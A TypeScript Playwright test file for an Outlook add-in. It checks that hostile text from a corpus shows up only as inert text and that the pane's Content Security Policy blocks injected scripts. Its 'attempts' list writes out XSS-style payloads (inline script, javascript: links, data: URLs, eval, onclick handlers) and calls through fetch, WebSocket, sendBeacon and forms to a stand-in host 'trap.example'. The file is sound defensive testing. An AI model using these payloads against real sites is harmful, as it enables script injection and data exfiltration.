import type { Browser, BrowserContext, Frame, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, expect, test } from "vitest";
import { openBrowser } from "../support/browser.ts";
import { corpus } from "../support/hostile/corpus.ts";
import { deskSurfaces } from "../support/hostile/desk-surfaces.ts";
import { type Surface, surfaces } from "../support/hostile/surfaces.ts";
import { setTrap, type Trap, watch } from "../support/hostile/watch.ts";
import { deskUrl, invite, office, outlookUrl, paneOf, post } from "../support/journey.ts";
import { sideways } from "../support/journey-look.ts";

let trap: Trap;
let browser: Browser;
let letter: string;
let request: string;
beforeAll(async () => {
  trap = await setTrap();
  browser = await openBrowser(trap.flags);
  letter = await post(office, { subject: "A letter for the screens" });
  request = await invite({ subject: "A request for the screens", inDays: 30 });
});
afterEach(() => Promise.all(browser.contexts().map((context) => context.close())));
afterAll(async () => {
  await browser.close();
  await trap.close();
});

async function sit(narrow: boolean, answers: Surface["answers"] = {}) {
  const context = await browser.newContext({
    viewport: { width: 1280, height: 800 },
    reducedMotion: "reduce",
  });
  const found = await watch(context, trap);
  for (const [call, answer] of Object.entries(answers))
    await context.route(`**/api/${call}`, (route) => route.fulfill({ json: answer }));
  const page = await context.newPage();
  await page.goto(`${outlookUrl}/?person=imran&mailbox=office&theme=light&paneWidth=${narrow ? 320 : 450}`);
  await paneOf(page).getByText("Logged lately").waitFor();
  return { context, page, found };
}

test.each(surfaces.map((surface) => [surface.name, surface] as const))(
  "even if the office cleaned nothing, hundreds of hostile words would only stand there: %s",
  async (_name, { answers, open }) => {
    const { page, found } = await sit(true, answers);
    await open(paneOf(page), { page, letter, request });
    const text = (await frameOf(page).textContent("body")) ?? "";
    const missing = corpus.filter((one) => one.name.startsWith("breaks out") && !text.includes(one.text));
    expect(missing).toEqual([]);
    expect(await sideways(page)).toEqual([]);
    expect(found()).toEqual([]);
    expect(new URL(page.url()).origin).toBe(outlookUrl);
  },
);

test.each(deskSurfaces.map((surface) => [surface.name, surface] as const))(
  "nor would they do more in the register than stand there: %s",
  async (_name, { hash, answers, read }) => {
    const viewport = { width: 320, height: 2_400 };
    const context = await browser.newContext({ viewport, reducedMotion: "reduce", ignoreHTTPSErrors: true });
    const found = await watch(context, trap);
    for (const [call, answer] of Object.entries(answers))
      await context.route(`**/api/${call}`, (route) => route.fulfill({ json: answer }));
    const page = await context.newPage();
    await page.goto(`${deskUrl}${hash}`);
    await page.getByRole("link", { name: /Imran Siddiqui/ }).click();
    const text = await read(page);
    const missing = corpus.filter((one) => one.name.startsWith("breaks out") && !text.includes(one.text));
    expect(missing).toEqual([]);
    expect(await sideways(page)).toEqual([]);
    expect(found()).toEqual([]);
    expect(page.url().startsWith(deskUrl)).toBe(true);
  },
);

function frameOf(page: Page): Frame {
  const frame = page.frame("addin-pane");
  if (!frame) throw new Error("There is no pane.");
  return frame;
}

/** What the pane's page may not do, in the browser's own words, and an attempt at it. */
const attempts: readonly (readonly [what: string, directive: string, attempt: string])[] = [
  ["a script written in the page", "script-src-elem", `add("script", { textContent: "owned(1)" })`],
  ["a script from elsewhere", "script-src-elem", `add("script", { src: elsewhere })`],
  [
    "a script from a shared store",
    "script-src-elem",
    `add("script", { src: "https://ajax.aspnetcdn.com/ajax/jQuery/jquery-3.7.1.min.js" })`,
  ],
  ["a script of data", "script-src-elem", `add("script", { src: "data:text/javascript,owned(1)" })`],
  ["a handler in a tag", "script-src-attr", `add("b", {}).setAttribute("onclick", "owned(1)")`],
  ["a link to script", "script-src-elem", `add("a", { href: "javascript:owned(1)" }).click()`],
  ["words made into script", "script-src", `(0, eval)("owned(1)")`],
  ["a worker", "worker-src", `new Worker("data:text/javascript,1")`],
  ["a call", "connect-src", `fetch(elsewhere).catch(() => {})`],
  ["an open line", "connect-src", `new WebSocket("wss://trap.example/")`],
  ["a signal on leaving", "connect-src", `navigator.sendBeacon(elsewhere, "x")`],
  ["a picture", "img-src", `add("img", { src: elsewhere })`],
  ["a style sheet", "style-src-elem", `add("link", { rel: "stylesheet", href: elsewhere })`],
  ["a font", "font-src", `new FontFace("f", "url(" + elsewhere + ")").load().catch(() => {})`],
  ["a film", "media-src", `add("video", { src: elsewhere })`],
  ["a frame", "frame-src", `add("iframe", { src: elsewhere })`],
  ["an object", "object-src", `add("object", { data: elsewhere })`],
  ["another base", "base-uri", `add("base", { href: elsewhere })`],
  ["a form", "form-action", `add("form", { action: elsewhere, target: "_blank" }).submit()`],
];

test("the pane's own page stops whatever it did not bring itself, and calls nowhere but the office and the sign-in", async () => {
  const { page, found } = await sit(false);
  const pane = frameOf(page);
  for (const [what, directive, attempt] of attempts) {
    await trying(pane, attempt);
    const seen: string[] = [];
    // Chromium connects for a frame or a form before it asks the policy, and then says nothing there.
    const look = () => seen.push(...found().filter((one) => !one.endsWith("to elsewhere")));
    await expect.poll(() => (look(), seen[0]), { message: what, timeout: 10_000 }).toBeDefined();
    expect(new Set(seen.map((one) => one.split(" ", 4).join(" ")))).toEqual(
      new Set([`the policy stopped ${directive}`]),
    );
  }
});

/** Later, as a task of the page's own: what a debugger runs may do more. */
const trying = (pane: Frame, attempt: string): Promise<unknown> =>
  pane.evaluate(`{
    const elsewhere = "https://trap.example/policy";
    const add = (name, properties) =>
      document.body.appendChild(Object.assign(document.createElement(name), properties));
    setTimeout(() => { ${attempt} });
  }`);

test("the pane's own page runs Office's scripts from where Microsoft keeps them", async () => {
  const { context, page, found } = await sit(false);
  const allowed = [
    "https://appsforoffice.microsoft.com/lib/1/hosted/office.js",
    "https://ajax.aspnetcdn.com/ajax/3.5/MicrosoftAjax.js",
  ];
  await letScriptsCome(context, allowed);
  const pane = frameOf(page);
  for (const src of allowed) {
    const ran = await pane.evaluate(
      (from) =>
        new Promise<boolean>((resolve) => {
          const script = document.createElement("script");
          script.onload = () => resolve("cameFromMicrosoft" in window);
          script.onerror = () => resolve(false);
          script.src = from;
          document.head.append(script);
        }),
      src,
    );
    expect(ran).toBe(true);
  }
  expect(found().filter((one) => one.startsWith("the policy stopped"))).toEqual([]);
});

async function letScriptsCome(context: BrowserContext, addresses: readonly string[]): Promise<void> {
  for (const address of addresses)
    await context.route(address, (route) =>
      route.fulfill({ contentType: "text/javascript", body: "window.cameFromMicrosoft = true;" }),
    );
}
